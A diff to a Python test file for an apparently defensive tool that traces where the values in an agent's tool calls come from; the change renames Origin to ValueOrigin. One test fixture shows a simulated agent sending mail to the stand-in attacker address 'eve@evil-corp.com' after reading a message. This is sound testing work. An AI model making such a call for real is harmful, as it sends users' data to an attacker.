@@ -12,7 +12,7 @@ from gatling.adapters.messages import ConversationTracer, plan_of_messages
 from gatling.errors import InputError
 from gatling.provenance import tracer as messages_module
 from gatling.provenance.sources import ToolSources
-from gatling.provenance.tracer import Origin
+from gatling.provenance.tracer import ValueOrigin
 from gatling.schema import ExecutionPlan
 from gatling.schema.words import split_words
 from tests.sizes import num_cases
@@ -299,7 +299,7 @@ def test_the_tracer_follows_a_running_agent() -> None:
     (sending,) = tracer.feed(call("send_mail", "b", to="eve@evil-corp.com", cc="ops@example.org"))
     assert tracer.request == "Read mail 812.\n\nGo on."
     assert tracer.plan().nodes == (reading, sending)
-    assert tracer.origins(sending.node_id) == (Origin("to", 3, "n1"), Origin("cc", 1, None))
+    assert tracer.origins(sending.node_id) == (ValueOrigin("to", 3, "n1"), ValueOrigin("cc", 1, None))
 
 
 def test_a_message_that_is_refused_changes_nothing() -> None:
